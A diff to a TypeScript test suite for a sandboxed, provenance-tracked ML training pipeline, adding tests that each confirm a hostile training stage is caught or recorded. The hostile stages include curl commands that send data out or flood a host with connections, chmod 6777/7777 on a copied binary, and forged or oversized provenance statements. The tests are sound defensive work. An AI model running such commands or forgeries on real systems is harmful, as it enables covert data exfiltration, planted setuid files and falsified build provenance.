@@ -76,6 +76,13 @@ const running = (command: readonly string[]): Promise<string> => {
   return reviewed({ 'recipe.json': JSON.stringify({ ...recipe, command }) });
 };
 
+/** The same of stages. */
+const stages = (...scripts: readonly string[]): Promise<string> => {
+  const recipe = JSON.parse(readFileSync(join(DIGITS, 'training', 'recipe.json'), 'utf8')) as object;
+  const named = scripts.map((script, at) => ({ name: `stage-${at}`, command: ['sh', '-ec', script] }));
+  return reviewed({ 'recipe.json': JSON.stringify({ ...recipe, command: undefined, stages: named }) });
+};
+
 /** What the recipe runs. */
 const HONEST =
   'node /input/code/train.mjs --config /input/hyperparameters.json --data /input/data/digits.csv.gz --out /output/release';
@@ -257,6 +264,46 @@ describe('a training run that may reach something', () => {
     expect(resolvedDependencies.map(({ name }) => name)).toContain('trainer');
   });
 
+  it('attack: one that sends something and then fails does not do so unseen', async () => {
+    await listing(destination);
+    const send = `curl --noproxy '' -s -d "$(head -c 3000 /dev/zero | tr '\\0' x)" http://${destination}/a`;
+    commit = await running(['sh', '-c', `${send}; exit 3`]);
+    const reached = new RegExp(`let it reach ${destination}: 1 connections, 3\\d\\d\\d bytes out, \\d+ in`);
+    const failed = reaching('sent')('digits', 'run-1', asked('run-1'));
+    await expect(failed).rejects.toThrow(/^the stage release of the training run failed \(exit 3\): it tried nothing/);
+    await expect(failed).rejects.toThrow(reached);
+  });
+
+  const KEEP = 'mkdir /output/checkpoint; echo a > /output/checkpoint/a';
+  const from = (url: string): string => `curl --noproxy '' -s '${url}' -o /dev/null`;
+
+  it('attack: what an earlier stage did and reached is in the release’s provenance, after a kill, too', async () => {
+    await listing(destination);
+    const odd = 'mkfifo /output/pipe';
+    commit = await stages(
+      `${KEEP}; ${odd}; ${from(`http://${destination}/a`)}`,
+      `${from(`http://${destination}/b`)}; ${HONEST}`,
+    );
+    const request = asked('run-1');
+    for (let attempt = 0; attempt < 2; attempt += 1) {
+      const { statement } = await reaching('staged')('digits', 'run-1', request);
+      const { internalParameters } = (await intake.records.get('provenance', statement)).verified.predicate
+        .buildDefinition;
+      const paths = trafficIn(internalParameters)?.connections.map(({ http }) => http?.path);
+      expect(paths).toEqual([sha256('/a'), sha256('/b')]);
+      expect(observedIn(internalParameters)?.seen).toEqual([{ kind: 'output', count: 1, detail: 'pipe pipe' }]);
+      await rm(join(folder, 'staged', 'run-1'), { recursive: true });
+    }
+  });
+
+  it('attack: stages have no more connections together than a run has', async () => {
+    await listing(destination);
+    const much = from(`http://${destination}/[1-300]`);
+    commit = await stages(`${KEEP}; ${much}`, `${much}; ${HONEST}`);
+    const failed = reaching('spent')('digits', 'run-1', asked('run-1'));
+    await expect(failed).rejects.toThrow(/stage-1 .*by the proxy: more than 200 connections.*: 200 connections/);
+  });
+
   it('attack: fails when it reaches for anything else, though it ends well', async () => {
     await listing(destination);
     commit = await fetching(`http://elsewhere.example/a`);
@@ -278,11 +325,6 @@ describe('a training run that may reach something', () => {
 });
 
 describe('a training run of stages', () => {
-  const stages = (...commands: string[]): Promise<string> => {
-    const recipe = JSON.parse(readFileSync(join(DIGITS, 'training', 'recipe.json'), 'utf8')) as object;
-    const named = commands.map((script, at) => ({ name: `stage-${at}`, command: ['sh', '-ec', script] }));
-    return reviewed({ 'recipe.json': JSON.stringify({ ...recipe, command: undefined, stages: named }) });
-  };
   const MAKE = 'mkdir /output/checkpoint; head -c 64 /dev/urandom > /output/checkpoint/random';
   const PASS_ON =
     'mkdir /output/checkpoint; cp /input/checkpoint/random /output/checkpoint/; echo b > /output/checkpoint/b';
@@ -347,6 +389,9 @@ describe('a training run of stages', () => {
     const hasBegun = async (): Promise<boolean> =>
       (await readdir(outputs, { recursive: true }).catch(() => [])).some((path) => path.endsWith('/begun'));
     await expect.poll(hasBegun).toBe(true);
+    expect((await readdir(outputs, { recursive: true })).filter((path) => /unfinished.*stage-0$/.test(path))).toEqual(
+      [],
+    );
     killed.cancel();
     expect(await attempt).toMatchObject({ code: 'INTERRUPTED' });
     const { digest } = await statementAt(kept(outputs, 0));
@@ -354,6 +399,38 @@ describe('a training run of stages', () => {
     await trainWith(outputs)('digits', 'run-1', request);
     expect((await statementAt(kept(outputs, 0))).digest).toBe(digest);
     expect((await readdir(outputs)).sort()).toEqual(['run-1', 'run-1.checkpoints']);
+  });
+
+  it('goes on with its checkpoints though somebody else has reviewed the code meanwhile', async () => {
+    const request = await begun();
+    const before = await statementAt(kept(outputs, 1));
+    await repository.review('rolf', commit);
+    const { statement } = await trainWith(outputs)('digits', 'run-1', request);
+    expect(await statementAt(kept(outputs, 1))).toEqual(before);
+    const { predicate } = (await intake.records.get('provenance', statement)).verified;
+    const codeIn = ({ predicate: said }: Pick<typeof before, 'predicate'>) =>
+      dependenciesOf(said, 'training-code').find(({ reviewers }) => reviewers !== undefined)?.reviewers;
+    expect([codeIn(before), codeIn({ predicate })]).toEqual([['remy'], expect.arrayContaining(['remy', 'rolf'])]);
+  });
+
+  it('attack: an attempt that was taken for dead goes on beside the next one, and neither takes anything from the other', async () => {
+    outputs = join(folder, 'twice');
+    const wait = 'touch /output/begun; while [ ! -e /output/go ]; do sleep 0.1; done';
+    commit = await stages(`${wait}; ${MAKE}`, PASS_ON, END);
+    const request = asked('run-1');
+    const begunIn = async (): Promise<string[]> =>
+      (await readdir(outputs, { recursive: true }).catch(() => [])).filter((path) => path.endsWith('/begun'));
+    const first = trainWith(outputs)('digits', 'run-1', request);
+    await expect.poll(begunIn).toHaveLength(1);
+    const second = trainWith(outputs)('digits', 'run-1', request);
+    await expect.poll(begunIn).toHaveLength(2);
+    for (const path of await begunIn()) await writeFile(join(outputs, path, '..', 'go'), '');
+    const trained = await first;
+    expect(await second).toEqual(trained);
+    expect((await readdir(outputs)).sort()).toEqual(['run-1', 'run-1.checkpoints']);
+    const { digest } = await statementAt(kept(outputs, 1));
+    const { predicate } = (await intake.records.get('provenance', trained.statement)).verified;
+    expect(dependenciesOf(predicate, 'checkpoint')).toMatchObject([{ statement: digest }]);
   });
 
   const b = (at = 1): string => join(kept(outputs, at), 'checkpoint', 'b');
@@ -366,6 +443,11 @@ describe('a training run of stages', () => {
       'an earlier one has changed, though the later has not',
       'DIGEST_MISMATCH',
       () => writeFile(join(kept(outputs, 0), 'checkpoint', 'random'), 'x'),
+    ],
+    [
+      'its statement is without end',
+      'INPUT_UNSAFE',
+      () => writeFile(join(kept(outputs, 1), 'statement.json'), Buffer.alloc(9 * 1024 * 1024, ' ')),
     ],
     [
       'an earlier stage stands in for a later one',
@@ -394,6 +476,22 @@ describe('a training run of stages', () => {
       },
     ],
     [
+      'it was made with other code, of whomever it was reviewed by',
+      'REPLAYED',
+      async () => {
+        const { subject, predicate } = await statementAt(kept(outputs, 1));
+        const { buildDefinition } = predicate;
+        const resolvedDependencies = buildDefinition.resolvedDependencies.map((each) =>
+          each.digest?.['gitCommit'] === undefined
+            ? each
+            : { ...each, digest: { ...each.digest, dirHash: sha256('x') } },
+        );
+        const said = { ...predicate, buildDefinition: { ...buildDefinition, resolvedDependencies } };
+        const forged = intake.world.statement('provenance', { name: 'x', sha256: subject }, said, 'trainer');
+        await writeFile(join(kept(outputs, 1), 'statement.json'), canonicalBytes(forged.envelope));
+      },
+    ],
+    [
       'the release’s own provenance stands in for it',
       'REPLAYED',
       async () => {
@@ -410,6 +508,19 @@ describe('a training run of stages', () => {
     await tamper();
     await expect(trainWith(outputs)('digits', 'run-1', request)).rejects.toMatchObject({ code });
     expect(await readdir(outputs)).toEqual(['run-1.checkpoints']);
+  });
+
+  it('attack: leaves on this host nothing that runs as its user, or that others may change', async () => {
+    outputs = join(folder, 'stages-modes');
+    const open = `${MAKE}; cd /output/checkpoint; mkdir -p a/b; cp /bin/true a/b/run; chmod 6777 a/b/run random; chmod 7777 a . ; chmod 0700 a/b`;
+    commit = await stages(open, 'exit 3');
+    await expect(trainWith(outputs)('digits', 'run-1', asked('run-1'))).rejects.toMatchObject({
+      code: 'TRAINING_FAILED',
+    });
+    const left = join(kept(outputs, 0), 'checkpoint');
+    const modes = async (...paths: string[]): Promise<string[]> =>
+      Promise.all(paths.map(async (path) => ((await stat(join(left, path))).mode & 0o7777).toString(8)));
+    expect(await modes('random', 'a/b/run', '.', 'a', 'a/b')).toEqual(['644', '644', '755', '755', '755']);
   });
 
   it('attack: is refused with the checkpoints of another run, and of another request for the same', async () => {
